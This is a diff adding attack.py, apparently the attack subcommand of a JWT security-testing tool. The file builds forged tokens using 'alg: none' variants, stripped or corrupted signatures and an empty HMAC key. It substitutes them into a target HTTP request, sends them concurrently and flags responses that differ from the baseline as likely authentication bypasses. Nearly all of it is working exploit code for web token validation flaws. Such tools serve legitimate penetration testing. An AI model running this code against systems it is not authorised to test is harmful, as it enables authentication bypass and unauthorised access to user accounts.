@@ -0,0 +1,334 @@
+"""
+attack.py
+
+This file contains the attack subcommand. Forged variants of the provided token (alg none, stripped and invalid
+signatures, an empty HMAC key) are generated, swapped into the target request in place of the original token, and sent
+concurrently with the request engine in http_client.py. Responses are fingerprinted and clustered against the response
+to the original token as they arrive (see fingerprint.py), so only likely bypasses are surfaced. Without a target URL,
+the variants are only printed so they can be used with other tools.
+
+Functions:
+- attack: The main function for the attack subcommand, sends every variant and reports the responses.
+- attack_variants: Generates the forged variants of a token.
+- parse_headers: Splits -rh values into a list of header (name, value) tuples.
+- parse_cookies: Splits -rc values into a list of cookie (name, value) tuples.
+- build_template: Builds the request that the token variants are swapped into.
+- build_requests: Lazily builds one request per token variant.
+- print_response: Outputs a single response to the user.
+- print_clusters: Outputs the response clusters, surfacing those that differ from the baseline.
+"""
+
+import json
+import hmac
+import asyncio
+import urllib.parse
+from colorama import Fore, Style
+
+import src.utils.parse_token
+import src.utils.http_client
+import src.utils.fingerprint
+import src.utils.error_handler
+
+# capitalisations of the none algorithm, since some libraries only compare against one of them
+NONE_ALGORITHMS = ['none', 'None', 'NONE', 'nOnE']
+
+# JWT alg header value -> hashlib digest name, for signing with an empty key
+_HMAC_ALGORITHMS = {
+    'HS256': 'sha256',
+    'HS384': 'sha384',
+    'HS512': 'sha512',
+}
+
+
+def attack(token: str, url: str = None, verb: str = None, headers: list = None, cookies: list = None,
+           request: dict = None, concurrency: int = src.utils.http_client.CONCURRENCY, rate: float = None,
+           timeout: float = src.utils.http_client.TIMEOUT, retries: int = src.utils.http_client.RETRIES,
+           verify_ssl: bool = False, output: str = None, cache: bool = True, show_all: bool = False) -> dict:
+    """
+    Sends every forged variant of the token to the target. Each response is reduced to a fingerprint (see
+    fingerprint.py) and clustered against the response to the original token, and only responses that start a new
+    cluster are printed as they arrive, followed by a summary of every cluster that differs from the baseline.
+
+    :param token: The JWT to attack.
+    :param url: Target URL, or None to use the Host header of the request (or only print the variants if there is no
+                request either).
+    :param verb: HTTP method, or None to use the request's method (GET if there is no request).
+    :param headers: List of (name, value) tuples to send in addition to the request's headers.
+    :param cookies: List of (name, value) tuples to send in addition to the request's cookies.
+    :param request: Request dictionary from parse_http_request to use as the template, or None.
+    :param concurrency: Maximum number of requests in flight at once.
+    :param rate: Maximum number of requests per second to the target, or None for no limit.
+    :param timeout: Seconds to wait to connect and for each response.
+    :param retries: Number of times a request is retried after a connection error or timeout.
+    :param verify_ssl: Verify the target's TLS certificate? T/F
+    :param output: Path to write every result to as JSON lines, or None.
+    :param cache: Skip variants whose response to this endpoint is already in the fingerprint cache? T/F
+    :param show_all: Print every response, instead of only the first response of each new cluster? T/F
+    :return: Dictionary object with the baseline fingerprint and the clusters (fingerprint -> list of variant names).
+    """
+    try:
+        variants = attack_variants(token)
+    except ValueError as e:
+        src.utils.error_handler.print_error(str(e))
+
+    template = build_template(token, url, verb, headers or [], cookies or [], request)
+    if not template:
+        # nothing to send to, so output the altered JWTs for use elsewhere
+        for name, variant in variants:
+            print(Fore.CYAN+'➤  '+Fore.MAGENTA+name+': '+Fore.CYAN+variant+Style.RESET_ALL)
+        return {}
+
+    print(Fore.CYAN+'➤  '+Fore.MAGENTA+'Sending '+Fore.CYAN+str(len(variants))+Fore.MAGENTA+' token variants to ' +
+          Fore.CYAN+template['url']+Style.RESET_ALL)
+    print()
+    return asyncio.run(_send(build_requests(template, token, variants), concurrency, rate, timeout, retries,
+                             verify_ssl, output, cache, show_all))
+
+
+def attack_variants(token: str) -> list:
+    """
+    Generates forged variants of the token that a vulnerable server might accept. The original token is always first,
+    as the baseline response.
+
+    :param token: The JWT to attack.
+    :return: List of (variant name, token) tuples.
+    """
+    token_dict = src.utils.parse_token.decode_token(token)
+    header, payload, signature = token.split('.')
+    header_dict = token_dict['header_dict']
+    signing_input = header + '.' + payload
+
+    variants = [('original', token)]
+    for alg in NONE_ALGORITHMS:
+        none_header = src.utils.parse_token.base64_encode({**header_dict, 'alg': alg})
+        variants.append(('alg ' + alg, none_header + '.' + payload + '.'))
+    variants.append(('signature stripped', signing_input + '.'))
+    variants.append(('signature removed', signing_input))
+    if signature:
+        # flip the last character, so the signature decodes to a different value of the same length
+        flipped = signature[:-1] + ('A' if signature[-1] != 'A' else 'B')
+        variants.append(('signature invalid', signing_input + '.' + flipped))
+    if header_dict.get('alg') in _HMAC_ALGORITHMS:
+        empty_key = hmac.digest(b'', signing_input.encode('ascii'), _HMAC_ALGORITHMS[header_dict['alg']])
+        variants.append(('empty key', signing_input + '.' + src.utils.parse_token.base64_encode_bytes(empty_key)))
+    return variants
+
+
+def parse_headers(values: list) -> list:
+    """
+    Splits the -rh values, each a single header or a semi-colon delimited list of them. A piece without a colon is
+    treated as part of the previous header's value (e.g. the second part of 'Cookie: a=1; b=2').
+
+    :param values: List of -rh values, e.g. ['X-Api-Key: 1234; Accept: application/json'].
+    :return: List of (name, value) tuples.
+    """
+    headers = []
+    for value in values or []:
+        for piece in value.split(';'):
+            name, sep, header_value = piece.partition(':')
+            if sep and name.strip() and ' ' not in name.strip():
+                headers.append((name.strip(), header_value.strip()))
+            elif headers and piece.strip():
+                headers[-1] = (headers[-1][0], headers[-1][1] + '; ' + piece.strip())
+            elif piece.strip():
+                raise ValueError('Invalid request header (expected Name: value): ' + piece.strip())
+    return headers
+
+
+def parse_cookies(values: list) -> list:
+    """
+    :param values: List of -rc values, each a single cookie or a semi-colon delimited list, e.g. ['a=1; b=2'].
+    :return: List of (name, value) tuples.
+    """
+    cookies = []
+    for value in values or []:
+        for piece in value.split(';'):
+            name, sep, cookie_value = piece.partition('=')
+            if not sep or not name.strip():
+                if piece.strip():
+                    raise ValueError('Invalid request cookie (expected name=value): ' + piece.strip())
+                continue
+            cookies.append((name.strip(), cookie_value.strip()))
+    return cookies
+
+
+def build_template(token: str, url: str, verb: str, headers: list, cookies: list, request: dict = None) -> dict:
+    """
+    Builds the request that the token variants are swapped into. If neither the request nor any header or cookie
+    carries the token, it is sent as a bearer token in the Authorization header.
+
+    :param token: The original JWT, as it appears in the request.
+    :param url: Target URL. With a request, the request's path is resolved against it, so a bare https://host works.
+    :param verb: HTTP method, or None for the request's method (GET if there is no request).
+    :param headers: List of (name, value) tuples to send.
+    :param cookies: List of (name, value) tuples to send.
+    :param request: Request dictionary from parse_http_request, or None.
+    :return: Dictionary object with method, url, headers and body, or None if there is no target to send to.
+    """
+    method = verb.upper() if verb else (request['method'] if request else 'GET')
+    template_headers = list(request['headers']) if request else []
+    body = request['body'] if request else b''
+
+    if request:
+        host = dict((name.lower(), value) for name, value in template_headers).get('host')
+        if request['target'].startswith(('http://', 'https://')):
+            url = url or request['target']
+        elif url:
+            url = urllib.parse.urljoin(url, request['target'])
+        elif host:
+            url = 'https://' + host + request['target']
+    if not url:
+        return None
+
+    template_headers += headers
+    if cookies:
+        cookie_value = '; '.join(name + '=' + value for name, value in cookies)
+        for i, (name, value) in enumerate(template_headers):
+            if name.lower() == 'cookie':
+                template_headers[i] = (name, value + '; ' + cookie_value)
+                break
+        else:
+            template_headers.append(('Cookie', cookie_value))
+
+    if token not in url and not any(token in value for _, value in template_headers) and token.encode() not in body:
+        template_headers.append(('Authorization', 'Bearer ' + token))
+
+    return {'method': method, 'url': url, 'headers': template_headers, 'body': body}
+
+
+def build_requests(template: dict, token: str, variants: list):
+    """
+    Lazily builds one request per variant by replacing every occurrence of the original token in the template.
+
+    :param template: Dictionary object returned by build_template.
+    :param token: The original JWT.
+    :param variants: List of (variant name, token) tuples from attack_variants.
+    :return: Generator of request dictionaries for http_client.stream_requests, each with the variant name and token.
+    """
+    encoded = token.encode('ascii')
+    for name, variant in variants:
+        yield {
+            'name': name,
+            'token': variant,
+            'method': template['method'],
+            'url': template['url'].replace(token, variant),
+            'headers': [(header, value.replace(token, variant)) for header, value in template['headers']],
+            'body': template['body'].replace(encoded, variant.encode('ascii')),
+        }
+
+
+def print_response(response: dict, note: str = ''):
+    """
+    Outputs a single response, e.g. ➤  200   1534 bytes    42 ms  alg none
+
+    :param response: Response dictionary from http_client.stream_requests.
+    :param note: Text to add after the variant name, e.g. why the response is shown.
+    :return: None
+    """
+    name = response['request']['name'] + ('  ' + note if note else '')
+    if 'error' in response:
+        print(Fore.RED+'➤  ERR  '+response['error']+'  '+name+Style.RESET_ALL)
+        return
+    color = Fore.CYAN if response['status'] < 400 else Fore.MAGENTA
+    print(Fore.CYAN+'➤  '+color+str(response['status'])+Fore.MAGENTA+'  '+str(len(response['body'])).rjust(8) +
+          ' bytes  '+str(round(response['elapsed'] * 1000)).rjust(6)+' ms  '+Fore.CYAN+name+Style.RESET_ALL)
+
+
+def print_clusters(clusters: dict, baseline: tuple, cached: int):
+    """
+    Outputs the clusters of responses, surfacing every cluster that differs from the baseline as a likely bypass.
+
+    :param clusters: Dictionary object of fingerprint -> list of variant names.
+    :param baseline: Fingerprint of the response to the original token.
+    :param cached: Number of variants classified from the fingerprint cache instead of being sent.
+    :return: None
+    """
+    print()
+    print(Fore.CYAN+'➤  '+Fore.MAGENTA+'Baseline ('+src.utils.fingerprint.describe(baseline)+'): '+Fore.CYAN +
+          str(len(clusters.get(baseline, [])))+Fore.MAGENTA+' responses'+Style.RESET_ALL)
+
+    differing = [(fp, names) for fp, names in clusters.items() if fp != baseline and fp[0] != 'error']
+    for fp, names in sorted(differing, key=lambda cluster: len(cluster[1])):
+        print(Fore.CYAN+'➤  '+Fore.MAGENTA+'Differs from baseline ('+src.utils.fingerprint.describe(fp)+'): ' +
+              Fore.CYAN+str(len(names))+Fore.MAGENTA+' responses - '+Fore.CYAN+', '.join(names[:10]) +
+              (', ...' if len(names) > 10 else '')+Style.RESET_ALL)
+    if not differing:
+        print(Fore.CYAN+'➤  '+Fore.MAGENTA+'No responses differ from the baseline.'+Style.RESET_ALL)
+
+    if ('error',) in clusters:
+        print(Fore.RED+'➤  Failed requests: '+str(len(clusters[('error',)]))+Style.RESET_ALL)
+    if cached:
+        print(Fore.CYAN+'➤  '+Fore.MAGENTA+'Already classified (fingerprint cache): '+Fore.CYAN+str(cached) +
+              Style.RESET_ALL)
+    print()
+
+
+async def _send(requests, concurrency: int, rate: float, timeout: float, retries: int, verify_ssl: bool,
+                output: str, use_cache: bool, show_all: bool) -> dict:
+    clusters = {}
+    cached = 0
+    outfile = open(output, 'w', encoding='utf-8') if output else None
+    try:
+        # the original token is always the first variant, its response is the baseline everything is compared to
+        async for response in src.utils.http_client.stream_requests([next(requests)], 1, rate, timeout, retries,
+                                                                     verify_ssl):
+            baseline_response = response
+        baseline = src.utils.fingerprint.fingerprint(baseline_response)
+        print_response(baseline_response, '(baseline)')
+        _classify(clusters, baseline_response, baseline, outfile)
+
+        cache = None
+        if use_cache and baseline[0] != 'error':
+            request = baseline_response['request']
+            cache = src.utils.fingerprint.load_cache(
+                src.utils.fingerprint.cache_path(request['method'], request['url'], baseline))
+
+        def pending():
+            nonlocal cached
+            for request in requests:
+                fp = cache['fingerprints'].get(src.utils.fingerprint.token_key(request['token'])) if cache else None
+                if fp is None:
+                    yield request
+                    continue
+                cached += 1
+                if fp not in clusters and fp != baseline:
+                    print(Fore.CYAN+'➤  '+Fore.MAGENTA+src.utils.fingerprint.describe(fp)+'  '+Fore.CYAN +
+                          request['name']+'  (cached)'+Style.RESET_ALL)
+                clusters.setdefault(fp, []).append(request['name'])
+                if outfile:
+                    outfile.write(json.dumps({'name': request['name'], 'token': request['token'], 'cached': True,
+                                              'fingerprint': list(fp)}) + '\n')
+
+        async for response in src.utils.http_client.stream_requests(pending(), concurrency, rate, timeout, retries,
+                                                                     verify_ssl):
+            fp = src.utils.fingerprint.fingerprint(response)
+            if show_all or (fp not in clusters and fp != baseline):
+                # only the first response of each new cluster is shown, the rest are counted in the summary
+                print_response(response, '' if fp == baseline else '(differs from baseline)')
+            _classify(clusters, response, fp, outfile)
+            if cache:
+                src.utils.fingerprint.record_fingerprint(cache, response['request']['token'], fp)
+    finally:
+        if outfile:
+            outfile.close()
+
+    print_clusters(clusters, baseline, cached)
+    return {'baseline': baseline, 'clusters': clusters}
+
+
+def _classify(clusters: dict, response: dict, fp: tuple, outfile):
+    clusters.setdefault(fp, []).append(response['request']['name'])
+    if outfile:
+        outfile.write(json.dumps(_record(response, fp)) + '\n')
+        outfile.flush()
+
+
+def _record(response: dict, fp: tuple) -> dict:
+    record = {'name': response['request']['name'], 'token': response['request']['token'],
+              'attempts': response['attempts']}
+    if 'error' in response:
+        record['error'] = response['error']
+    else:
+        record.update({'status': response['status'], 'length': len(response['body']),
+                       'elapsed': round(response['elapsed'], 4), 'fingerprint': list(fp)})
+    return record